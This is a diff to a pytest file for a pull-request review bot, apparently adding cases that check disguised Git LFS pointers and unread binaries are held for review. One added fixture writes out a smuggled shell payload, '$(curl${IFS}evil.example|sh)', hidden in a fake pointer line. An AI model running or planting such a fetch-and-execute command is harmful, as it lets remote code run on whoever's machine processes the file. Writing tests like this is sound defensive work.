@@ -1,7 +1,6 @@
 from __future__ import annotations
 
 import re
-from dataclasses import replace
 from random import Random
 
 import pytest
@@ -13,8 +12,11 @@ from reviewbot.domain.github.pull_request import Entry
 from reviewbot.domain.selection.file_kinds import is_lock_file, is_protected
 from reviewbot.domain.selection.lockfiles import lock_file_notices
 from reviewbot.domain.selection.selection import LARGEST_TEXT, Held, HeldBecause, Selection, held_sentence, risk, select
+from reviewbot.values import replace
 
 POINTER = ("version https://git-lfs.github.com/spec/v1", f"oid sha256:{'a' * 64}", "size 12")
+COMMAND = (POINTER[0], f"ext-$(curl${{IFS}}evil.example|sh) sha256:{'a' * 64}", *POINTER[1:])
+"""Reads like a pointer with an extension; a shell runs the command."""
 
 
 def changed(  # noqa: PLR0913 — one builder for every kind of change
@@ -87,6 +89,9 @@ LARGE = replace(entry(), size=LARGEST_TEXT + 1)
         (changed("model.bin", added=(*POINTER, "evil()")), None),
         (changed("model.py", removed=("check()",), added=POINTER), None),
         (changed("model.py", added=POINTER[:1], new=entry(POINTER[0] + "\nevil()\n")), None),
+        (changed("run.sh", added=COMMAND, new=entry("\n".join(COMMAND) + "\n")), None),
+        (changed("run.sh", added=COMMAND[1:2]), None),
+        (changed("run.sh", added=POINTER[1:], new=entry("\n".join(POINTER[1:]) + "\n")), None),
     ],
 )
 def test_by_default_only_what_nobody_writes_by_hand_is_held(file: ChangedFile, reason: HeldBecause | None) -> None:
@@ -423,6 +428,15 @@ def test_a_real_binary_is_not_missed(path: str) -> None:
     file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(BINARIES[path]))
     [one] = selection_of(file).held
     assert one == Held(path, HeldBecause.BINARY)
+
+
+@pytest.mark.parametrize(
+    ("path", "size", "missed"),
+    [("a.bin", 10, True), ("a.png", 10, False), ("a.bin", LARGEST_TEXT + 1, False), ("a.bin", None, False)],
+)
+def test_a_binary_whose_bytes_were_not_read_may_be_text(path: str, size: int | None, missed: bool) -> None:  # noqa: FBT001 — a table
+    file = changed(path, added=(), headers=BINARY_DIFF, new=replace(entry(binary=True), size=size))
+    assert selection_of(file).held == (Held(path, HeldBecause.BINARY, "it may be text" * missed, missed=missed),)
 
 
 def test_a_tar_archive_of_another_name_may_be_a_script() -> None:
